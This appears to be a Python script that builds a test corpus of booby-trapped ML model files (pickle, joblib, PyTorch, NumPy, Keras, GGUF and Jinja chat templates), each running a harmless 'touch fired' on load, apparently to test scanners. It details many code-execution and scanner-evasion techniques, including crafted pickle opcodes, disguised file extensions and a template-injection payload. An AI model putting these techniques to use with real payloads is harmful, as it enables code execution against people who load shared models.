"""Archives that run code when their model is loaded, made from publicly described techniques: python3 malicious.py OUT.

Each case is a folder OUT/NAME with the files of an archive, and load.py, which loads the model as its users would. The payload
only makes the file `fired` in the working directory; `fires.py` loads each case in a directory of its own and looks for it.
"""
import bz2, gzip, io, json, lzma, marshal, os, pickle, struct, sys, tarfile, zipfile, zlib, base64

CASES = {}
COMMAND = "touch fired"
PYTHON = "open('fired','w').close()"

PICKLE = "import pickle; pickle.load(open({0!r}, 'rb'))"
JOBLIB = "import joblib; joblib.load({0!r})"
TORCH = "import torch; torch.load({0!r}, weights_only=False)"
NUMPY = "import numpy; a = numpy.load({0!r}, allow_pickle=True); [a[k] for k in a.files] if hasattr(a, 'files') else 0"


def case(name, files, load):
    """files: {path: bytes}; load: a template over the first path, or whole source."""
    CASES[name] = (files, load.format(next(iter(files))) if "{0" in load else load)


class Call:
    def __init__(self, function, *args, then=None):
        self.function, self.args, self.then = function, args, then

    def __reduce__(self):
        return (self.function, self.args) if self.then is None else (self.function, self.args, self.then)


def short(text):
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def called(module, name, *args, start=b"\x80\x04"):
    return start + short(module) + short(name) + b"\x93" + b"(" + b"".join(short(a) for a in args) + b"tR."


EVIL = called("os", "system", COMMAND)
STATE = {"weight": [0.0] * 8, "bias": 1}


def zipped(entries, method=zipfile.ZIP_STORED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in entries:
            z.writestr(name, data)
    return out.getvalue()


def torch_zip(data, extra=(), method=zipfile.ZIP_STORED):
    return zipped([("archive/data.pkl", data), ("archive/byteorder", b"little"), ("archive/version", b"3\n"), *extra], method)


def functions():
    """Which function does it: the same frame, many sinks."""
    import runpy, subprocess, builtins, code, timeit, pdb, cProfile, profile, trace, importlib, types, operator, functools, codecs, platform, pydoc
    case("os-system", {"model.pkl": pickle.dumps(Call(os.system, COMMAND))}, PICKLE)
    case("os-popen", {"model.pkl": called("os", "popen", COMMAND)}, PICKLE + ".read()" if False else PICKLE)
    case("os-execvp", {"model.pkl": b"\x80\x04cos\nexecvp\n(" + short("touch") + b"]" + b"(" + short("touch") + short("fired") + b"etR."}, PICKLE)
    case("os-spawnlp", {"model.pkl": b"\x80\x04cos\nspawnlp\n(K\x00" + short("touch") + short("touch") + short("fired") + b"tR."}, PICKLE)
    case("subprocess-run", {"model.pkl": pickle.dumps(Call(subprocess.run, ["touch", "fired"]))}, PICKLE)
    case("subprocess-popen", {"model.bin": pickle.dumps([Call(subprocess.Popen, ["touch", "fired"])])}, PICKLE + "; import time; time.sleep(0.5)")
    case("subprocess-getoutput", {"model.p": called("subprocess", "getoutput", COMMAND)}, PICKLE)
    case("builtins-exec", {"model.pkl": pickle.dumps(Call(exec, PYTHON))}, PICKLE)
    case("builtins-eval", {"model.pkl": pickle.dumps(Call(eval, PYTHON), 2)}, PICKLE)
    case("builtins-open", {"model.sav": called("builtins", "open", "fired", "w")}, PICKLE)
    case("python2-builtin", {"model.pkl": b"c__builtin__\neval\n(S\"" + PYTHON.encode() + b"\"\ntR."}, PICKLE)
    case("io-open", {"model.pkl": called("io", "open", "fired", "w")}, PICKLE)
    case("io-FileIO", {"model.pkl": called("_io", "FileIO", "fired", "w")}, PICKLE)
    case("pathlib-touch", {"model.pkl": b"\x80\x04" + short("pathlib") + short("Path.touch") + b"\x93" + short("pathlib") + short("PosixPath") + b"\x93" + short("fired") + b"\x85R\x85R."}, PICKLE)
    case("runpy-run-path", {"model.pkl": called("runpy", "run_path", "payload.py"), "payload.py": PYTHON.encode()}, PICKLE)
    case("runpy-run-code", {"model.pkl": called("runpy", "_run_code", PYTHON) if False else b"\x80\x04crunpy\n_run_code\n(" + short(PYTHON) + b"}tR."}, PICKLE)
    case("timeit", {"model.pkl": called("timeit", "timeit", PYTHON)[:-3] + b"N" + b"tR." if False else b"\x80\x04ctimeit\ntimeit\n(" + short(PYTHON) + short("pass") + b"ctime\ntime\nK\x01tR."}, PICKLE)
    case("cprofile-run", {"model.pkl": called("cProfile", "run", PYTHON)}, PICKLE)
    case("profile-run", {"model.pkl": called("profile", "run", PYTHON)}, PICKLE)
    case("pdb-run", {"model.pkl": b"\x80\x04cbdb\nBdb\n)R\x94" + b"0\x80\x04" + short("bdb") + short("Bdb.run") + b"\x93h\x00" + short(PYTHON) + b"\x86R."}, PICKLE)
    case("code-interpreter", {"model.pkl": b"\x80\x04" + short("code") + short("InteractiveInterpreter.runcode") + b"\x93ccode\nInteractiveInterpreter\n)R" + b"cbuiltins\ncompile\n(" + short(PYTHON) + short("x") + short("exec") + b"tR\x86R."}, PICKLE)
    case("pty-spawn", {"model.pkl": b"\x80\x04cpty\nspawn\n(" + b"](" + short("touch") + short("fired") + b"etR."}, PICKLE)
    case("ctypes", {"model.pkl": b"\x80\x04" + short("ctypes") + short("pythonapi.PyRun_SimpleString") + b"\x93C\x19" + b"open('fired','w').close()" + b"\x85R."}, PICKLE)
    case("importlib-exec", {"model.pkl": called("importlib", "import_module", "payload"), "payload.py": PYTHON.encode()}, "import sys; sys.path.insert(0, '.'); " + PICKLE)
    case("import-only", {"model.pkl": b"\x80\x04cpayload\nx\n.", "payload.py": PYTHON.encode()}, "import sys; sys.path.insert(0, '.'); " + PICKLE)
    case("operator-methodcaller", {"model.pkl": b"\x80\x04coperator\nmethodcaller\n" + short("system") + short(COMMAND) + b"\x86Rcos\n__builtins__\n0" + b"cimportlib\nimport_module\n" + short("os") + b"\x85R\x85R."}, PICKLE)
    case("operator-attrgetter", {"model.pkl": b"\x80\x04coperator\nattrgetter\n" + short("system") + b"\x85Rcimportlib\nimport_module\n" + short("os") + b"\x85R\x85R" + short(COMMAND) + b"\x85R."}, PICKLE)
    case("getattr-chain", {"model.pkl": b"\x80\x04cbuiltins\ngetattr\ncimportlib\nimport_module\n" + short("os") + b"\x85R" + short("system") + b"\x86R" + short(COMMAND) + b"\x85R."}, PICKLE)
    case("functools-partial", {"model.pkl": b"\x80\x04cfunctools\npartial\ncos\nsystem\n" + short(COMMAND) + b"\x86R)R."}, PICKLE)
    case("functools-reduce", {"model.pkl": b"\x80\x04cfunctools\nreduce\ncos\nsystem\n0cbuiltins\nexec\n](" + short(PYTHON) + b"}e\x86R."}, PICKLE)
    case("map-list", {"model.pkl": b"\x80\x04cbuiltins\nlist\ncbuiltins\nmap\ncos\nsystem\n](" + short(COMMAND) + b"e\x86R\x85R."}, PICKLE)
    case("nested-pickle-loads", {"model.pkl": b"\x80\x04cpickle\nloads\nC" + bytes([len(EVIL)]) + EVIL + b"\x85R."}, PICKLE)
    case("marshal-function", {"model.pkl": b"\x80\x04ctypes\nFunctionType\ncmarshal\nloads\nC" + bytes([len(marshal.dumps(compile(PYTHON, 'x', 'exec')))]) + marshal.dumps(compile(PYTHON, 'x', 'exec')) + b"\x85R}" + short("open") + b"cbuiltins\nopen\ns\x86R)R."}, PICKLE)
    case("codecs-shutil", {"model.pkl": called("shutil", "copyfile", "model.pkl", "fired")}, PICKLE)
    case("os-rename", {"model.pkl": called("posix", "rename", "side.txt", "fired"), "side.txt": b"x"}, PICKLE)
    case("os-mkdir", {"model.pkl": called("os", "mkdir", "fired")}, PICKLE)
    case("tempfile", {"model.pkl": b"\x80\x04ctempfile\nNamedTemporaryFile\n)R\x810" + b"." if False else called("os", "symlink", "model.pkl", "fired")}, PICKLE)
    case("logging-handler", {"model.pkl": called("logging", "FileHandler", "fired")}, PICKLE)
    case("sqlite", {"model.pkl": b"\x80\x04" + short("sqlite3") + short("connect") + b"\x93" + short("fired") + b"\x85R" + b"."}, PICKLE)
    case("zipfile-extract", {"model.pkl": b"\x80\x04" + short("zipfile") + short("ZipFile.extractall") + b"\x93czipfile\nZipFile\n" + short("side.zip") + b"\x85R\x85R.", "side.zip": zipped([("fired", b"")])}, PICKLE)
    case("multiprocessing", {"model.pkl": b"\x80\x04cmultiprocessing.util\nspawnv_passfds\n(C\x0e/usr/bin/touch](C\x05touchC\x05firede)tR."}, PICKLE + "; import time; time.sleep(0.3)")
    case("asyncio-subprocess", {"model.pkl": b"\x80\x04casyncio\nrun\ncasyncio\ncreate_subprocess_shell\n" + short(COMMAND) + b"\x85R\x85R."}, PICKLE + "; import time; time.sleep(0.5)")
    case("numpy-runstring", {"model.pkl": b"\x80\x04cnumpy.testing._private.utils\nrunstring\n" + short(PYTHON) + b"}\x86R."}, PICKLE)
    case("numpy-save", {"model.pkl": b"\x80\x04cnumpy\nsavetxt\n" + short("fired") + b"]\x86R."}, PICKLE)
    case("numpy-memmap", {"model.pkl": b"\x80\x04cnumpy\nmemmap\n(" + short("fired") + short("uint8") + short("w+") + b"K\x00K\x01tR."}, PICKLE)
    case("numpy-load", {"model.pkl": b"\x80\x04cnumpy\nload\n(" + short("side.npy") + b"N\x88tR.", "side.npy": EVIL}, PICKLE)
    case("joblib-load", {"model.pkl": called("joblib", "load", "side.dat"), "side.dat": EVIL}, PICKLE)
    case("pandas-read-pickle", {"model.pkl": called("pandas", "read_pickle", "side.dat"), "side.dat": EVIL}, PICKLE)
    case("pandas-to-csv", {"model.pkl": b"\x80\x04" + short("pandas") + short("DataFrame.to_csv") + b"\x93cpandas\nDataFrame\n)R" + short("fired") + b"\x86R."}, PICKLE)
    case("torch-load-in-pickle", {"model.pkl": b"\x80\x04" + short("torch") + short("load") + b"\x93(" + short("side.bin") + b"tR.", "side.bin": EVIL}, "import torch, functools; torch.load = functools.partial(torch.load, weights_only=False); " + PICKLE)
    case("torch-save-to", {"model.pkl": b"\x80\x04ctorch\nsave\nK\x01" + short("fired") + b"\x86R."}, PICKLE)
    case("sklearn-parallel", {"model.pkl": b"\x80\x04csklearn.utils.parallel\nParallel\n)R](cbuiltins\ntuple\n](cos\nsystem\n(" + short(COMMAND) + b"t}e\x85Re\x85R."}, PICKLE)


def encodings():
    """How it is written: protocols, opcodes, names that are hidden."""
    for protocol in range(6):
        case(f"protocol-{protocol}", {"model.pkl": pickle.dumps({"state": STATE, "hook": Call(os.system, COMMAND)}, protocol)}, PICKLE)
    case("inst", {"model.pkl": b"(S'" + COMMAND.encode() + b"'\nios\nsystem\n."}, PICKLE)
    case("obj", {"model.pkl": b"\x80\x02(cos\nsystem\n" + b"U\x0b" + COMMAND.encode() + b"o."}, PICKLE)
    case("newobj", {"model.pkl": b"\x80\x02csubprocess\nPopen\n)\x81}b0cos\nsystem\nU\x0b" + COMMAND.encode() + b"\x85R."}, PICKLE)
    case("memo", {"model.pkl": b"\x80\x04" + short("system") + b"\x94" + short("os") + b"\x94" + b"00h\x01h\x00\x93" + short(COMMAND) + b"\x85R."}, PICKLE)
    case("far-memo", {"model.pkl": b"\x80\x04" + short("system") + b"r\x00\x00\x01\x000" + short("os") + b"j\x00\x00\x01\x00\x93" + short(COMMAND) + b"\x85R."}, PICKLE)
    case("padding-texts", {"model.pkl": b"\x80\x04" + short("os") + short("x") + b"0" + short("y") + b"0" * 1 + short("system") + b"\x93" + short(COMMAND) + b"\x85R."}, PICKLE)
    case("escaped-unicode", {"model.pkl": b"\x80\x04V\\u006f\\u0073\nV\\u0073ystem\n\x93" + short(COMMAND) + b"\x85R."}, PICKLE)
    case("escaped-string", {"model.pkl": b"\x80\x04S'\\x6f\\163'\nS'syst\\x65m'\n\x93" + short(COMMAND) + b"\x85R."}, PICKLE)
    case("dotted", {"model.pkl": b"\x80\x04" + short("random") + short("_os.system") + b"\x93" + short(COMMAND) + b"\x85R."}, PICKLE)
    case("dotted-global", {"model.pkl": b"\x80\x04cshutil\nos.system\n" + short(COMMAND) + b"\x85R."}, PICKLE)
    case("computed-name", {"model.pkl": b"\x80\x04" + short("os") + b"c_codecs\ndecode\nC\x06system\x85R\x93" + short(COMMAND) + b"\x85R."}, PICKLE)
    case("computed-name-str", {"model.pkl": b"\x80\x04cbuiltins\nstr\nC\x02os" + short("ascii") + b"\x86R" + short("system") + b"\x93" + short(COMMAND) + b"\x85R."}, PICKLE)
    case("extension-registry", {"model.pkl": b"\x80\x02\x82\x07U\x0b" + COMMAND.encode() + b"\x85R."}, "import copyreg; copyreg.add_extension('os', 'system', 7); " + PICKLE)
    case("no-stop", {"model.pkl": EVIL[:-1]}, PICKLE)
    case("broken-behind", {"model.pkl": EVIL[:-1] + b"\xff\xff junk"}, PICKLE)
    case("junk-stack", {"model.pkl": b"\x80\x04" + b"(NNt0]0}0" * 500 + EVIL[2:]}, PICKLE)
    case("hundred-thousand-first", {"model.pkl": pickle.dumps([{f"k{i}": i} for i in range(100000)] + [Call(os.system, COMMAND)])}, PICKLE)
    case("behind-megabytes", {"model.pkl": b"\x80\x04B" + struct.pack("<I", 12_000_000) + bytes(12_000_000) + b"0" + EVIL[2:]}, PICKLE)
    case("second-pickle", {"model.pkl": pickle.dumps(STATE) + EVIL}, "import pickle; f = open('model.pkl', 'rb'); pickle.load(f); pickle.load(f)")
    case("defaultdict-factory", {"model.pkl": b"\x80\x04ccollections\ndefaultdict\ncpayload\nrun\n\x85R.", "payload.py": PYTHON.encode() + b"\nrun = dict\n"}, "import sys; sys.path.insert(0, '.'); " + PICKLE)
    case("build-setstate", {"model.pkl": b"\x80\x04cdatetime\ntimezone\n0cargparse\nNamespace\n)\x81}" + short("__setstate__") + b"cos\nsystem\nsb" + short(COMMAND) + b"b."}, PICKLE)
    case("legacy-five", {"model.pth": None}, TORCH)
    case("ufunc-reconstruct", {"model.pkl": b"\x80\x04cnumpy.core\n_ufunc_reconstruct\n" + short("os") + short("system") + b"\x86R" + short(COMMAND) + b"\x85R."}, "import warnings; warnings.simplefilter('ignore'); " + PICKLE)


def containers():
    """Where it lies: compression, arrays, zips, wrong names."""
    case("joblib-plain", {"model.joblib": EVIL}, JOBLIB)
    for name, pack in {"gz": gzip.compress, "z": zlib.compress, "bz2": bz2.compress, "xz": lzma.compress,
                       "lzma": lambda d: lzma.compress(d, lzma.FORMAT_ALONE)}.items():
        case(f"joblib-{name}", {f"model.pkl.{name}": pack(EVIL)}, JOBLIB)
    case("gzip-wrong-name", {"model.dat": gzip.compress(EVIL)}, "import gzip, pickle; pickle.load(gzip.open('model.dat'))")
    case("txt-name", {"vocabulary.txt": EVIL}, PICKLE)
    case("json-name-protocol-0", {"config.json": pickle.dumps(Call(os.system, COMMAND), 0)}, PICKLE)
    case("no-extension", {"weights": EVIL}, PICKLE)
    case("safetensors-name", {"model.safetensors": EVIL}, PICKLE)
    case("onnx-name", {"model.onnx": EVIL}, PICKLE)
    case("h5-name", {"model.h5": EVIL}, PICKLE)
    case("npy-name", {"model.npy": EVIL}, NUMPY)
    case("model-name", {"model.model": EVIL}, PICKLE)
    case("zip-entry", {"bundle.zip": zipped([("a.txt", b"x"), ("inner/model.pkl", EVIL)], zipfile.ZIP_DEFLATED)}, "import zipfile, pickle; pickle.load(zipfile.ZipFile('bundle.zip').open('inner/model.pkl'))")
    case("zip-entry-bzip2", {"bundle.zip": zipped([("inner/model.pkl", EVIL)], zipfile.ZIP_BZIP2)}, "import zipfile, pickle; pickle.load(zipfile.ZipFile('bundle.zip').open('inner/model.pkl'))")
    case("zip-behind-prefix", {"model.jpg": b"\xff\xd8\xff\xe0 picture" * 9 + zipped([("model.pkl", EVIL)])}, "import zipfile, pickle; pickle.load(zipfile.ZipFile('model.jpg').open('model.pkl'))")
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as t:
        info = tarfile.TarInfo("model_weights.ckpt"); info.size = len(EVIL); t.addfile(info, io.BytesIO(EVIL))
    case("nemo-tar", {"model.nemo": out.getvalue()}, "import tarfile, pickle; pickle.load(tarfile.open('model.nemo').extractfile('model_weights.ckpt'))")
    case("torch-zip", {"model.pt": torch_zip(EVIL)}, TORCH)
    case("torch-zip-deflated", {"model.bin": torch_zip(EVIL, method=zipfile.ZIP_DEFLATED)}, TORCH)
    case("torch-two-data", {"model.pth": zipped([("archive/data.pkl", EVIL), ("archive/data.pkl", pickle.dumps(STATE)), ("archive/version", b"3\n")])}, TORCH)
    case("torch-ckpt", {"model.ckpt": torch_zip(EVIL)}, TORCH)


def with_numpy():
    import numpy as np
    import joblib
    objects = np.array([Call(os.system, COMMAND)], dtype=object)

    def saved(save, *args, **kwargs):
        out = io.BytesIO(); save(out, *args, **kwargs); return out.getvalue()

    case("npy-objects", {"weights.npy": saved(np.save, objects)}, NUMPY)
    case("npz-objects", {"weights.npz": saved(np.savez, a=np.arange(3), b=objects)}, NUMPY)
    case("npz-compressed", {"weights.npz": saved(np.savez_compressed, a=np.arange(3), b=objects)}, NUMPY)
    def dumped(value, **kwargs):
        name = "/tmp/safety-%d.joblib" % os.getpid()
        joblib.dump(value, name, **kwargs)
        with open(name, "rb") as f: data = f.read()
        os.remove(name); return data
    case("joblib-behind-arrays", {"model.joblib": dumped([np.arange(100.0), np.ones((3, 4)), Call(os.system, COMMAND), np.arange(3)])}, JOBLIB)
    case("joblib-object-array", {"model.joblib": dumped({"a": np.arange(9), "o": objects})}, JOBLIB)
    case("joblib-arrays-gz", {"model.joblib": dumped([np.arange(100.0), Call(os.system, COMMAND)], compress=3)}, JOBLIB)
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    scaler = StandardScaler().fit(np.arange(6.0).reshape(3, 2))
    scaler.hook = Call(os.system, COMMAND)
    case("sklearn-hook", {"model.pkl": pickle.dumps(make_pipeline(scaler))}, PICKLE)
    case("dill", {"model.dill": b""}, PICKLE)
    import dill, cloudpickle
    def run():
        open("fired", "w").close()
    class Runs:
        def __reduce__(self): return run, ()
    dill.settings["recurse"] = True
    run.__module__ = "__main__"
    case("dill", {"model.dill": dill.dumps(Call(dill.loads, dill.dumps(Call(os.system, COMMAND))))}, "import dill; dill.load(open('model.dill', 'rb'))")
    case("cloudpickle", {"python_model.pkl": cloudpickle.dumps(Runs())}, PICKLE)


def with_torch():
    import torch
    out = io.BytesIO(); torch.save({"w": torch.zeros(2), "x": Call(os.system, COMMAND)}, out)
    case("torch-save", {"model.pt": out.getvalue()}, TORCH)
    out = io.BytesIO(); torch.save({"w": torch.zeros(2), "x": Call(os.system, COMMAND)}, out, _use_new_zipfile_serialization=False)
    case("legacy-five", {"model.pth": out.getvalue()}, TORCH)
    out = io.BytesIO(); torch.save({"w": torch.zeros(2)}, out, _use_new_zipfile_serialization=False)
    inner = out.getvalue().replace(b"}q\x00", b"}q\x00", 1)
    case("torch-embedded-bytes", {"model.pkl": b"\x80\x04ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(torch_zip(EVIL))) + torch_zip(EVIL) + b"\x85R."}, PICKLE)


def code():
    """Not in a pickle: handlers, modules that start by themselves, Keras, configuration."""
    run = "import h"
    handler = "def handle(data, context):\n    return ['ok'] * len(data) if data else None\n"
    case("handler-os-system", {"h.py": f"import os\nos.system({COMMAND!r})\n{handler}".encode()}, run)
    case("handler-subprocess", {"h.py": f"import subprocess\nsubprocess.run({COMMAND!r}, shell=True)\n{handler}".encode()}, run)
    case("handler-exec-base64", {"h.py": f"import base64\nexec(base64.b64decode({base64.b64encode(PYTHON.encode())!r}))\n{handler}".encode()}, run)
    case("handler-marshal", {"h.py": f"import marshal\nexec(marshal.loads({marshal.dumps(compile(PYTHON, 'x', 'exec'))!r}))\n{handler}".encode()}, run)
    case("handler-zlib-exec", {"h.py": f"import zlib\nexec(zlib.decompress({zlib.compress(PYTHON.encode())!r}))\n{handler}".encode()}, run)
    case("handler-import-trick", {"h.py": f"__import__('o' + 's').system({COMMAND!r})\n{handler}".encode()}, run)
    case("handler-getattr-trick", {"h.py": f"import os\ngetattr(os, 'sys' + 'tem')({COMMAND!r})\n{handler}".encode()}, run)
    case("helper-module", {"h.py": f"import helper\n{handler}".encode(), "helper.py": f"from os import system as s\ns({COMMAND!r})\n".encode()}, run)
    case("sitecustomize", {"h.py": handler.encode(), "sitecustomize.py": PYTHON.encode()}, "import sitecustomize" if False else "import subprocess, sys, os; subprocess.run([sys.executable, '-c', ''], env={**os.environ, 'PYTHONPATH': '.'})")
    case("shadowed-numpy", {"h.py": f"import numpy\n{handler}".encode(), "numpy.py": f"import os\nos.system({COMMAND!r})\n".encode()}, "import sys; sys.path.insert(0, '.'); import h")
    lam = base64.b64encode(marshal.dumps((lambda x: (open("fired", "w").close(), x)[1]).__code__)).decode()
    layer = {"class_name": "Lambda", "module": "keras.layers", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": lam, "defaults": None, "closure": None}}}, "registered_name": None}
    config = {"class_name": "Sequential", "module": "keras", "config": {"name": "s", "layers": [layer]}, "registered_name": None}
    keras_load = ("import json, zipfile, base64, marshal, types; c = json.loads(zipfile.ZipFile('model.keras').read('config.json')); "
                  "f = c['config']['layers'][0]['config']['function']['config']; types.FunctionType(marshal.loads(base64.b64decode(f['code'])), {'open': open})(1)")
    case("keras-lambda", {"model.keras": zipped([("metadata.json", b"{}"), ("config.json", json.dumps(config).encode()), ("model.weights.h5", b"")])}, keras_load)
    module = {"class_name": "Sequential", "module": "keras", "config": {"layers": [{"module": "os", "class_name": "system", "config": {"command": COMMAND}}]}}
    module_load = ("import json, zipfile, importlib; c = json.loads(zipfile.ZipFile('model.keras').read('config.json')); "
                   "l = c['config']['layers'][0]; getattr(importlib.import_module(l['module']), l['class_name'])(**l['config'])")
    case("keras-module", {"model.keras": zipped([("metadata.json", b"{}"), ("config.json", json.dumps(module).encode()), ("model.weights.h5", b"")])}, module_load)
    try:
        import h5py
        out = io.BytesIO()
        with h5py.File(out, "w") as f: f.attrs["model_config"] = json.dumps(config)
        case("keras-h5-lambda", {"model.h5": out.getvalue()}, "import h5py, json, base64, marshal, types; c = json.loads(h5py.File('model.h5').attrs['model_config']); f = c['config']['layers'][0]['config']['function']['config']; types.FunctionType(marshal.loads(base64.b64decode(f['code'])), {'open': open})(1)")
    except ImportError:
        pass
    template = "{{ cycler.__init__.__globals__.os.popen('touch fired').read() }}"
    case("chat-template", {"tokenizer_config.json": json.dumps({"chat_template": template}).encode()}, "import json, jinja2; jinja2.Template(json.load(open('tokenizer_config.json'))['chat_template']).render()")
    def text(value): data = value.encode(); return struct.pack("<Q", len(data)) + data
    gguf = b"GGUF" + struct.pack("<IQQ", 3, 0, 2) + text("general.architecture") + struct.pack("<I", 8) + text("llama") + text("tokenizer.chat_template") + struct.pack("<I", 8) + text(template)
    case("gguf-template", {"model.gguf": gguf}, "import re, jinja2; d = open('model.gguf', 'rb').read(); jinja2.Template(re.search(rb'\\{\\{.*\\}\\}', d).group().decode()).render()")


MANIFEST = {"runtime": "python", "model": {"modelName": "m", "handler": "h:handle"}, "modelServerVersion": "1.0", "implementationVersion": "1.0", "specificationVersion": "1.0"}
HANDLER = "def handle(data, context):\n    if data is None:\n        return None\n    return ['ok'] * len(data)\n"


def write(out, cases):
    for name, (files, load) in cases.items():
        folder = os.path.join(out, name)
        os.makedirs(os.path.join(folder, "MAR-INF"), exist_ok=True)
        files = {"h.py": HANDLER.encode(), **files, "MAR-INF/MANIFEST.json": json.dumps(MANIFEST).encode()}
        for path, data in files.items():
            if data is None: continue
            os.makedirs(os.path.dirname(os.path.join(folder, path)) or ".", exist_ok=True)
            with open(os.path.join(folder, path), "wb") as f: f.write(data)
        with zipfile.ZipFile(os.path.join(out, name + ".mar"), "w") as z:
            for path in sorted(files):
                if files[path] is not None: z.write(os.path.join(folder, path), path)
        if load is not None:
            with open(os.path.join(out, name + ".load.py"), "w") as f: f.write(load + "\n")


if __name__ == "__main__":
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    functions(); encodings(); containers(); code()
    for group in (with_numpy, with_torch):
        try:
            group()
        except ImportError as error:
            print("left out:", group.__name__, error)
    write(out, {name: made for name, made in CASES.items() if None not in made[0].values()})
    print(len(CASES))
